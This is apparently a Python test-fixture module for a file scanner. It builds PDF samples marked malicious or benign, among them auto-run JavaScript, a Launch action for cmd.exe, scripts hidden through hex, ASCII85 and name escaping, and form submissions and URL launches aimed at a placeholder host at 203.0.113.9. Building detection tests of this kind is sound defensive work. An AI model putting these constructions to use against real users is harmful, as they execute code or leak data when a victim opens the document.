"""PDF documents: what opening one starts, in the places where it is looked for last."""

from __future__ import annotations

import base64
import zlib

from stannary.testing.forges import forge
from stannary.testing.forges.configs import PICKLE

__all__ = ["document"]

_ACTED = b"<</Type/Catalog/OpenAction 2 0 R>>"
_URL = b"http://203.0.113.9/x"


def document(*objects: bytes) -> bytes:
    """Return a document of numbered objects, the first of which is its catalogue."""
    body = b"".join(b"%d 0 obj\n" % (number + 1) + content + b"\nendobj\n" for number, content in enumerate(objects))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def _stream(header: bytes, content: bytes) -> bytes:
    packed = zlib.compress(content)
    return b"<<" + header + b"/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"


def _objects(*objects: bytes) -> bytes:
    numbers, position = b"", 0
    for number, content in enumerate(objects):
        numbers += b"%d %d " % (10 + number, position)
        position += len(content) + 1
    return _stream(b"/Type/ObjStm/N %d/First %d" % (len(objects), len(numbers)), numbers + b" ".join(objects))


_ENCODED = base64.a85encode(b"app.launchURL('" + _URL + b"')") + b"~>"
_HOSTILE = {
    "script_on_opening": document(_ACTED, b"<</S/JavaScript/JS(app.alert(1))>>"),
    "script_of_objects": document(b"<</Type/Catalog/OpenAction 10 0 R>>", _objects(b"<</S/JavaScript/JS(app.alert(1))>>")),
    "launch_of_objects": document(b"<</Type/Catalog/OpenAction 10 0 R>>", _objects(b"<</S/Launch/F(cmd.exe)>>")),
    "script_escaped": document(_ACTED, b"<</S/J#61vaScript/JS(app.alert(1))>>"),
    "script_in_hex": document(b"<</Type/Catalog>>", b"<</S/JavaScript/JS<" + b"app.launchURL('x')".hex().encode() + b">>>"),
    "script_in_stream": document(_ACTED, b"<</S/JavaScript/JS 3 0 R>>", _stream(b"", b"this.exportDataObject({cName:'x',nLaunch:2});")),
    "script_in_ascii85": document(
        b"<</Type/Catalog>>",
        b"<</S/JavaScript/JS 3 0 R>>",
        b"<</Filter/ASCII85Decode/Length %d>>stream\n" % len(_ENCODED) + _ENCODED + b"\nendstream",
    ),
    "script_by_name": document(b"<</Type/Catalog/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>>>"),
    "form_of_xml": document(b"<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>", _stream(b"", b"<xdp><script>app.launchURL('x')</script></xdp>")),
    "file_address": document(_ACTED, b"<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>"),
    "share": document(_ACTED, b"<</S/GoToR/F(\\\\\\\\203.0.113.9\\\\x)>>"),
    "form_sent": document(_ACTED, b"<</S/SubmitForm/F(" + _URL + b")>>"),
    "film": document(b"<</Type/Catalog>>", b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>"),
    "embedded_pickle": document(
        b"<</Type/Catalog>>", b"<</Type/Filespec/F(m.pkl)/EF<</F 3 0 R>>>>", _stream(b"/Type/EmbeddedFile", PICKLE)
    ),
}  # fmt: skip
_PLAIN = document(
    b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R /Fit]>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Annots[<</A<</S/URI/URI(https://arxiv.org/abs/1706.03762)>>>>]>>",
    _stream(b"", b"BT (x) Tj ET"),
    _objects(b"<</Type/Font>>", b"<</S/GoTo/D(section.1)>>"),
    _stream(b"/Type/EmbeddedFile/Subtype/text#2Fcsv", b"a,b\n1,2\n"),
)
for _name, _content in _HOSTILE.items():
    forge(f"pdf.{_name}", filename="card.pdf", family="PDF", malicious=True)(_content.__bytes__)
_UNREAD = document(
    b"<</Type/Catalog/OpenAction 10 0 R>>", b"<</Type/ObjStm/N 1/First 5/Filter/LZWDecode/Length 9>>stream\nxxxxxxxxx\nendstream"
)
forge("pdf.objects_unread", filename="card.pdf", family="PDF", malicious=None)(_UNREAD.__bytes__)
forge("pdf.plain", filename="paper.pdf", family="PDF", malicious=False)(_PLAIN.__bytes__)
